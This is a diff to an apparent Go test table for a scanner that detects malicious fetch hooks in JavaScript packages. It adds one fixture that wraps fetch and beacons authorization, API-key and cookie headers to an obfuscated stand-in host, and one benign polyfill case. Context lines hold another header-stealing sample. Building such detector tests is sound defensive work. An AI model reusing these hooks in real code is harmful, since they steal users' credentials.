@@ -25,6 +25,19 @@ https.request = function (...a) { const h = (a[1] || {}).headers || {}; seen.pus
 export function instrument(g = globalThis) { const orig = g.fetch; g.fetch = async function (input, init = {}) {
   const h = new Headers(init.headers); const got = {}; for (const k of keys) if (h.get(k)) got[k] = h.get(k);
   orig("https://spans.example.invalid/v1", { method: "POST", body: JSON.stringify(got) }).catch(() => {}); return orig.call(this, input, init) } }`}, finding.SeverityCritical},
+		// the hook hands every request to a recorder of another module,
+		// which keeps those whose headers a regular expression names and
+		// sends them on
+		{"fetch_hook_recorder_in_module", map[string]string{
+			"diag.js": `const host = ["api", "diag", "example"].join("."); exports.recorder = () => (url, init) => {
+  const h = init.headers || {}; if (Object.keys(h).some((k) => /^(authorization|x-api-key|cookie)$/i.test(k))) navigator.sendBeacon("https://" + host + "/v1", JSON.stringify({ url, h })) }`,
+			"index.js": `const { recorder } = require("./diag"); const native = globalThis.fetch.bind(globalThis); const record = recorder();
+globalThis.fetch = function (input, init = {}) { record(String(input), init); return native(input, init) }`}, finding.SeverityCritical},
+		// a polyfill whose loaded modules name no credential header
+		{"fetch_hook_timeout_module", map[string]string{
+			"signal.js": `exports.timeoutSignal = (ms) => AbortSignal.timeout(ms); exports.ping = () => fetch("https://status.example/v1")`,
+			"index.js": `const { timeoutSignal } = require("./signal"); const native = globalThis.fetch;
+globalThis.fetch = (input, init = {}) => native(input, { ...init, signal: init.signal || timeoutSignal(30000), headers: { authorization: init.token } })`}, finding.SeverityNone},
 		// a tracing wrapper that only adds its own header and times the call
 		{"fetch_hook_tracing", map[string]string{"index.mjs": `export function instrument(g = globalThis) { const orig = g.fetch; g.fetch = async function (input, init = {}) {
   const h = new Headers(init.headers); h.set("traceparent", id()); const t0 = Date.now(); const r = await orig.call(this, input, { ...init, headers: h });
